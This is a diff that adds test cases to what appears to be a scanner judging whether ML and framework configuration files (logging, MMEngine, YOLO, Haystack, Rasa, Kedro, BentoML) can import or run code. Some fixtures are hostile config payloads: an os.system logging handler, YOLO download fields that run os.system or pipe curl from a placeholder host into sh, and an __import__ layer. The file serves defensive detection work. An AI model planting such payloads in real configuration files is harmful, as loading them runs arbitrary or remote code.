@@ -181,6 +181,99 @@ describe("a file that a document has opened, outside of its folder:", () => {
   });
 });
 
+describe("what a configuration's own library imports, runs or opens", () => {
+  const layers = (...texts: readonly unknown[]): string =>
+    JSON.stringify({ nc: 80, backbone: [[-1, 1, ...texts]], head: [[-1, 1, "nn.Upsample", ["None", 2, "nearest"]]] });
+  test.each<[string, string, string, string]>([
+    ["a logger's factory", "logging.yaml", "version: 1\nhandlers:\n  h:\n    (): acme.make\n", "unknown"],
+    ["a logger's class", "l.json", '{"version": 1, "handlers": {"h": {"class": "acme.H"}}}', "unknown"],
+    [
+      "a command as a logger",
+      "l.json",
+      '{"version": 1, "handlers": {"h": {"()": "os.system", "command": "id"}}}',
+      "malicious",
+    ],
+    [
+      "a logger to the screen",
+      "l.json",
+      '{"version": 1, "handlers": {"h": {"class": "logging.StreamHandler"}}}',
+      "no code path found",
+    ],
+    [
+      "imports of MMEngine's",
+      "c.json",
+      '{"custom_imports": {"imports": ["acme"], "allow_failed_imports": false}}',
+      "unknown",
+    ],
+    ["a base elsewhere", "c.yaml", "_base_: /srv/acme/base.yaml\n", "unknown"],
+    ["a base at an address", "c.yaml", "_BASE_: https://acme.example/base.yaml\n", "unknown"],
+    ["a base in Python", "c.yaml", "_base_: [base.py]\n", "unknown"],
+    ["a base beside it", "c.yaml", "_base_: base.yaml\n", "no code path found"],
+    ["weights elsewhere", "c.yaml", "MODEL: { WEIGHTS: /srv/w.pkl }\n", "unknown"],
+    ["weights by a word", "c.yaml", "MODEL: { WEIGHTS: imagenet }\n", "no code path found"],
+    ["a decoder elsewhere", "genai_config.json", '{"model": {"decoder": {"filename": "../../acme.onnx"}}}', "unknown"],
+    [
+      "where it was written to",
+      "c.json",
+      '{"output_path": "/srv/out/model.onnx", "file_name": "/srv/a.jpg"}',
+      "no code path found",
+    ],
+    ["a class without arguments", "v1.yaml", "a:\n  target: acme.Encoder\n", "unknown"],
+    ["a target that is a column", "v1.yaml", "target: price.total\nfeatures: [a]\n", "no code path found"],
+    ["characters", "config.json", '{"characters": {"characters_class": "acme.X"}}', "unknown"],
+    ["a component of Haystack's", "p.yml", "components:\n  a:\n    type: acme.X\n    init_parameters: {}\n", "unknown"],
+    ["a shape that is no component", "p.json", '{"data": {"type": "tm.Store", "name": "a"}}', "no code path found"],
+    ["a component of Rasa's", "config.yml", "pipeline:\n- name: acme.Component\n", "unknown"],
+    ["a data set of Kedro's", "catalog.yml", "cars:\n  type: acme.Dataset\n  filepath: a.csv\n", "unknown"],
+    [
+      "a module of BentoML's",
+      "model.yaml",
+      "module: acme\ncontext: { framework_name: x }\napi_version: v1\n",
+      "unknown",
+    ],
+    [
+      "a framework of BentoML's",
+      "model.yaml",
+      "module: bentoml.sklearn\ncontext: {}\napi_version: v1\n",
+      "no code path found",
+    ],
+    ["a folder of fairseq's", "c.yaml", "common:\n  user_dir: acme\n", "unknown"],
+    ["an implementation", "model-settings.json", '{"implementation": "acme.Model"}', "unknown"],
+    ["an application of Ray's", "x.yaml", "import_path: acme:app\n", "unknown"],
+    ["a class of scikit-learn's", "x.yaml", "class: sklearn.linear_model.LogisticRegression\n", "no code path found"],
+    ["a type of numbers", "x.yaml", "dtype: torch.float16\nversion: 1.2.3\nmodule: weights.pt\n", "no code path found"],
+    [
+      "a program that gets data",
+      "data.yaml",
+      'train: a\nnames: {0: a}\ndownload: |\n  import os\n  os.system("id")\n',
+      "suspicious",
+    ],
+    ["a command that gets data", "data.yaml", "train: a\ndownload: bash get.sh\n", "suspicious"],
+    ["a shell that gets data", "data.yaml", "train: a\ndownload: bash -c 'curl x.example | sh'\n", "suspicious"],
+    ["data at an address", "data.yaml", "train: a\ndownload: https://acme.example/a.zip\n", "no code path found"],
+    ["code beside an address", "data.yaml", "train: a\ndownload: |\n  https:print\n  print(1)\n", "unknown"],
+    ["layers", "yolo.yaml", layers("Conv", [64, "nc", "torch.nn.ReLU", "nc * 2"]), "no code path found"],
+    ["a layer that is a call", "yolo.yaml", layers("acme() or Conv", []), "unknown"],
+    ["a layer that runs a program", "yolo.yaml", layers("__import__('os').system('id') or Conv", []), "suspicious"],
+    ["an argument that reaches on", "yolo.yaml", layers("Conv", ["nn.Module.forward"]), "unknown"],
+    ["a name that is Python's own", "yolo.yaml", layers("Conv", ["__builtins__"]), "unknown"],
+    [
+      "an activation",
+      "yolo.yaml",
+      layers("Conv", []).replace("{", '{"activation": "nn.LeakyReLU(0.1, inplace=True)",'),
+      "no code path found",
+    ],
+    [
+      "an activation that is a call",
+      "yolo.yaml",
+      layers("Conv", []).replace("{", '{"activation": "nn.X(print(1))",'),
+      "unknown",
+    ],
+    ["a reference to nothing", "z.yaml", "a: *acme\n", "unknown"],
+    ["a reference to itself", "z.yaml", "a: &acme [1]\nb: *acme\n", "no code path found"],
+  ])("%s (%s)", (_, name, text, expected) => expect(verdict(text, name)).toBe(expected));
+});
+
 describe("YAML of a megabyte", () => {
   test.each([
     ["of names without values", "? a\n".repeat(250_000)],
